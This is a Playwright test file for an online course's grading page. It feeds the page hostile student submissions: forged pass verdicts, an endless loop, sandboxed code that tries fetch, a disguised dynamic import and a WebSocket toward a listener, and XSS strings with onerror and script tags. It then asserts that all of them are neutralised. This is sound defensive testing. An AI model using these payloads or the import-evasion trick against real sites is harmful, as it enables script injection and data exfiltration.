/**
 * The grading page (issue 22, "Done means"): a student answers exercises and writes code cells in
 * one lesson and downloads the work; the grading page gets that file and five more made from it —
 * a forged one (every verdict "pass", wrong code), one whose code loops forever, one whose code
 * tries the network and writes HTML-looking strings, a truncated one, another course's — plus one
 * of an unknown version and one too large. The table shows the honest results, each bad file its
 * reason, the HTML as text, and the CSV says what the table says. Also: the answer key the page
 * grades with is the one the lessons' exercises check with.
 */
import AxeBuilder from '@axe-core/playwright';
import { readFileSync } from 'node:fs';
import type { Locator, Page } from '@playwright/test';
import { exercises } from '../../src/exercises/index.ts';
import { expect, test } from './fixtures.ts';
import { startNetworkListener, type NetworkListener } from './network-listener.ts';

// Starting sandboxes (a frame, two workers per Check) takes seconds on a loaded machine; one file's
// code runs into the 5 s limit.
test.describe.configure({ timeout: 240_000 });

const lessonPath = 'lessons/backprop-through-bn/';
const lesson = 'backprop-through-bn';
const staged = exercises['bn-backward'].solution;
const compact = exercises['bn-backward-compact'].solution;

function mutate(code: string, from: string, to: string): string {
  if (!code.includes(from)) throw new Error(`mutation target not found: ${from}`);
  return code.replace(from, to);
}
/** The compact dx without −Σ dy (the path through μ dropped): wrong in dx. */
const wrongCompact = mutate(compact, '(N * g - sumDy[h] - xhat', '(N * g - xhat');
const forgedStage = { case: 'forged', stage: 'dx', pass: true, relError: 0, firstWrong: null, message: '' };

let listener: NetworkListener;

test.beforeAll(async () => {
  listener = await startNetworkListener();
});

test.afterAll(() => listener.close());

/** Replaces a cell's code through its editor, as a student pasting code would. */
async function paste(page: Page, cell: Locator, code: string): Promise<void> {
  await cell.scrollIntoViewIfNeeded();
  const editor = cell.locator('.cm-content');
  await expect(editor).toBeVisible();
  await editor.click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
  await expect(editor).toContainText(code.split('\n')[0].slice(0, 30));
}

/** The student's side: two right answers and a wrong one, a right and a wrong code cell, then the download. */
async function studentWork(page: Page): Promise<{ name: string; text: string }> {
  await page.goto(lessonPath);
  const answer = async (id: string, act: (e: Locator) => Promise<void>) => {
    const e = page.locator(`nn-exercise[data-id="${id}"]`);
    await act(e);
    await e.getByRole('button', { name: 'Check' }).click();
    await expect(e).toHaveAttribute('data-state', /correct|wrong/);
  };
  await answer('identical-batch-grads', (e) => e.locator('input[value="above"]').check());
  await answer('dbeta-uniform', (e) => e.getByLabel('Your answer').fill('7'));
  await answer('scale-invariance', (e) => e.getByLabel('Your answer').fill('0.5'));
  await paste(page, page.locator('nn-code-cell[data-key="bn-backward"]'), staged);
  await paste(page, page.locator('nn-code-cell[data-key="bn-backward-compact"]'), wrongCompact);

  const box = page.locator('nn-download-work');
  await box.getByLabel('Your name (optional)').fill('Ada Lovelace');
  const download = page.waitForEvent('download');
  await box.getByRole('button', { name: 'Download my work' }).click();
  const file = await download;
  await expect(box.getByRole('status')).toContainText('3 exercise answers, 2 code cells');
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') };
}

interface FileLesson {
  id: string;
  exercises: Record<string, unknown>[];
  cells: Record<string, unknown>[];
}

/** The bad and hostile files, each made from the real download. */
function classFiles(text: string) {
  const base = () => JSON.parse(text) as { student: string; version: number; course: { id: string }; lessons: FileLesson[] };
  const inLesson = (s: ReturnType<typeof base>) => s.lessons.find((l) => l.id === lesson)!;
  const json = (s: unknown) => JSON.stringify(s, null, 2);

  const forged = base();
  forged.student = 'Forger';
  for (const l of forged.lessons) {
    Object.assign(l, { pass: true, score: 1 });
    for (const e of l.exercises)
      Object.assign(e, { reply: e.reply === null ? null : 'wrong', verdict: 'pass', solved: true, correct: true });
    for (const c of l.cells)
      Object.assign(c, {
        code:
          c.code === null
            ? null
            : `for (let id = 0; id < 20; id++) postMessage({ id, type: 'checked', logs: [], value: null, stages: [${JSON.stringify(forgedStage)}], pass: true });\n${wrongCompact}`,
        verdict: 'pass',
        pass: true,
        stages: [forgedStage],
      });
  }

  const loop = base();
  loop.student = 'Looper';
  inLesson(loop).cells.find((c) => c.key === 'bn-backward')!.code = 'function batchNormBackward() { while (true) {} }\n';
  inLesson(loop).cells.find((c) => c.key === 'bn-backward-compact')!.code = compact;

  const html = '<img src=x onerror="window.__pwned=1">';
  const network = base();
  network.student = html;
  inLesson(network).exercises.find((e) => e.id === 'dbeta-uniform')!.reply = '<img src=x onerror=window.__pwned=2>';
  inLesson(network).cells.find((c) => c.key === 'bn-backward')!.code = [
    `const L = ${JSON.stringify(listener.url)};`,
    `try { fetch(L + '/fetch?secret=1').catch(() => {}); } catch {}`,
    // A plain import( is refused before the code runs; through Function it reaches the browser's policy.
    `try { new Function('u', 'return imp' + 'ort(u)')(L + '/import.js').catch(() => {}); } catch {}`,
    `try { new WebSocket(L.replace('http', 'ws') + '/ws'); } catch {}`,
    `throw new Error('<img src=x onerror="window.__pwned=3">');`,
  ].join('\n');
  inLesson(network).cells.find((c) => c.key === 'bn-backward-compact')!.code =
    `const note = '<script>window.__pwned = 4</script><b>bold</b>';\n${compact}`;

  const other = base();
  other.course.id = 'another-course';
  const future = base();
  future.version = 2;

  return {
    loaded: [
      { name: 'ada.json', text },
      { name: 'forged.json', text: json(forged) },
      { name: 'loop.json', text: json(loop) },
      { name: '<b>network</b>.json', text: json(network) },
    ],
    refused: [
      {
        name: 'truncated.json',
        text: text.slice(0, Math.floor(text.length / 2)),
        reason: 'expected JSON text, received text that does not parse',
      },
      {
        name: 'other-course.json',
        text: json(other),
        reason: 'expected a file for the course "normlab", received one for "another-course"',
      },
      { name: 'future.json', text: json(future), reason: 'expected version 1, received 2 (unknown version)' },
      { name: 'huge.json', text: ' '.repeat(2_000_001), reason: 'too large: received 2,000,001 bytes, the limit is 2,000,000 bytes' },
    ],
    html,
  };
}

/** Minimal RFC 4180 reader for the page's CSV. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') field += text[i++];
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

test(
  'the grading page re-checks every answer and code cell, refuses bad files with their reason and shows files as text',
  { tag: '@base-path' },
  async ({ page, problems }) => {
    // The network attempts are refused by the sandbox's policy, and the browser logs them.
    problems.allow(/Content Security Policy|Refused to|Failed to load resource|net::ERR|WebSocket|\(csp\)$/);
    await page.route(`${listener.url}/**`, (route) => route.continue());
    const { name, text } = await studentWork(page);
    expect(name).toMatch(/^normlab-Ada-Lovelace-/);
    const files = classFiles(text);
    const buffer = (f: { name: string; text: string }) => ({ name: f.name, mimeType: 'application/json', buffer: Buffer.from(f.text) });

    await page.goto('instructors/');
    await page.getByRole('link', { name: 'the grading page' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Grade submissions');
    const grader = page.locator('nn-grade-submissions');
    // The form shows once the element has bound its listeners (it renders hidden); setInputFiles does
    // not wait for visibility, and files set earlier fired a change nobody heard (a loaded CI run).
    const picker = page.getByLabel('Submission files');
    await expect(picker).toBeVisible();
    // Half the files picked with the file input, the other half dropped on the drop zone.
    await picker.setInputFiles([...files.loaded.slice(0, 2), ...files.refused.slice(0, 2)].map(buffer));
    await expect(grader.locator('tbody tr')).toHaveCount(2);
    await expect(grader.locator('[data-refused] li')).toHaveCount(2);
    const dropped = [...files.loaded.slice(2), ...files.refused.slice(2)];
    const transfer = await page.evaluateHandle((list) => {
      const t = new DataTransfer();
      for (const f of list) t.items.add(new File([f.text], f.name, { type: 'application/json' }));
      return t;
    }, dropped);
    await grader.locator('[data-drop]').dispatchEvent('drop', { dataTransfer: transfer });

    await expect(grader.locator('tbody tr')).toHaveCount(4);
    await expect(grader).toHaveAttribute('data-state', 'done', { timeout: 180_000 });
    await expect(grader.getByRole('status')).toHaveText('4 files graded, 8 of 8 code cells checked, 4 files refused.');

    // Each refused file, named, with its reason.
    const refusals = grader.locator('[data-refused] li');
    await expect(refusals).toHaveCount(4);
    for (const f of files.refused) await expect(refusals.filter({ hasText: `${f.name}: ` })).toContainText(f.reason);

    // The table, by column name.
    const header = await grader.locator('thead th').allTextContents();
    const rows = await grader
      .locator('tbody tr')
      .evaluateAll((trs) => trs.map((tr) => [...(tr as HTMLTableRowElement).cells].map((c) => c.textContent ?? '')));
    const cell = (row: number, column: string) => {
      const i = header.indexOf(column);
      expect(i, `column ${column}`).toBeGreaterThan(-1);
      return rows[row][i];
    };
    const col = {
      choice: `${lesson}/identical-batch-grads`,
      dbeta: `${lesson}/dbeta-uniform`,
      scale: `${lesson}/scale-invariance`,
      staged: `${lesson}/code:bn-backward`,
      compact: `${lesson}/code:bn-backward-compact`,
      gradCheck: `${lesson}/code:grad-check`,
      passed: `${lesson}/passed of 6`,
      total: header.at(-1)!,
    };
    expect(rows.map((r) => r[0])).toEqual(['Ada Lovelace', 'Forger', 'Looper', files.html]);
    expect(rows.map((r) => r[1])).toEqual(files.loaded.map((f) => f.name));
    // The honest student: what they did, checked again.
    expect([cell(0, col.choice), cell(0, col.dbeta), cell(0, col.scale), cell(0, col.staged), cell(0, col.gradCheck)]).toEqual([
      'pass',
      'fail: replied "7"',
      'pass',
      'pass',
      'unanswered',
    ]);
    expect(cell(0, col.compact)).toBe('fail: first failing stage: dx (random batch 8×5)');
    expect([cell(0, col.passed), cell(0, col.total)]).toEqual(['3', '3']);
    expect(cell(0, 'the-bn-transform/transform-by-hand')).toBe('unanswered');
    // The forger: every verdict in the file said pass.
    for (const c of [col.choice, col.dbeta, col.scale]) expect(cell(1, c)).toBe('fail: replied "wrong"');
    for (const c of [col.staged, col.compact]) expect(cell(1, c)).toMatch(/^fail: first failing stage: /);
    expect([cell(1, col.passed), cell(1, col.total)]).toEqual(['0', '0']);
    // The endless loop is stopped at 5 s and the next cell is checked in a fresh sandbox.
    expect(cell(2, col.staged)).toBe('fail: stopped after 5 s: the code was still running');
    expect(cell(2, col.compact)).toBe('pass');
    // The network and HTML file: no request left the sandbox; every string is text.
    expect(cell(3, col.dbeta)).toBe('fail: replied "<img src=x onerror=window.__pwned=2>"');
    expect(cell(3, col.staged)).toBe('fail: error: line 5: Error: <img src=x onerror="window.__pwned=3">');
    expect(cell(3, col.compact)).toBe('pass');
    expect(listener.hits).toEqual([]);
    await expect(page.locator('main img, main b, main script:not([src])')).toHaveCount(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    await expect(grader.locator('tbody th').last()).toHaveText(files.html);

    // The filled page passes axe (the a11y spec checks it empty, as every page).
    const axe = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice']).analyze();
    expect(axe.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => `${v.id}: ${v.help}`)).toEqual([]);

    // The CSV says what the table says.
    const download = page.waitForEvent('download');
    await grader.getByRole('button', { name: 'Download CSV for the gradebook' }).click();
    const csv = readCsv(readFileSync(await (await download).path(), 'utf8'));
    expect(csv).toEqual([header, ...rows]);
  },
);

test(
  'the answer key the grading page uses holds what each lesson’s exercises check against',
  { tag: '@base-path' },
  async ({ request, baseURL }) => {
    const key = (await (await request.get(new URL('instructors/grade/answer-key.json', baseURL).href)).json()) as {
      course: { id: string };
      lessons: {
        id: string;
        exercises: { id: string; kind: string; answer: number | string; tolerance: string | null }[];
        cells: { key: string }[];
      }[];
    };
    expect(key.course.id).toBe('normlab');
    let checked = 0;
    for (const l of key.lessons) {
      const html = await (await request.get(new URL(`lessons/${l.id}/`, baseURL).href)).text();
      const attr = (tag: string, name: string) => new RegExp(`\\s${name}="([^"]*)"`).exec(tag)?.[1] ?? null;
      const onPage = [...html.matchAll(/<nn-exercise\s[^>]*>/g)]
        .map((m) => m[0])
        .filter((tag) => attr(tag, 'data-kind') !== 'open')
        .map((tag) => ({
          id: attr(tag, 'data-id'),
          kind: attr(tag, 'data-kind'),
          answer: attr(tag, 'data-answer'),
          tolerance: attr(tag, 'data-tolerance'),
        }));
      expect(
        l.exercises.map((e) => ({ id: e.id, kind: e.kind, answer: String(e.answer), tolerance: e.tolerance })),
        l.id,
      ).toEqual(onPage);
      expect(l.cells.map((c) => c.key)).toEqual([...html.matchAll(/<nn-code-cell\b[^>]*\sdata-key="([^"]*)"/g)].map((m) => m[1]));
      checked += l.exercises.length;
    }
    expect(checked).toBeGreaterThan(40);
  },
);
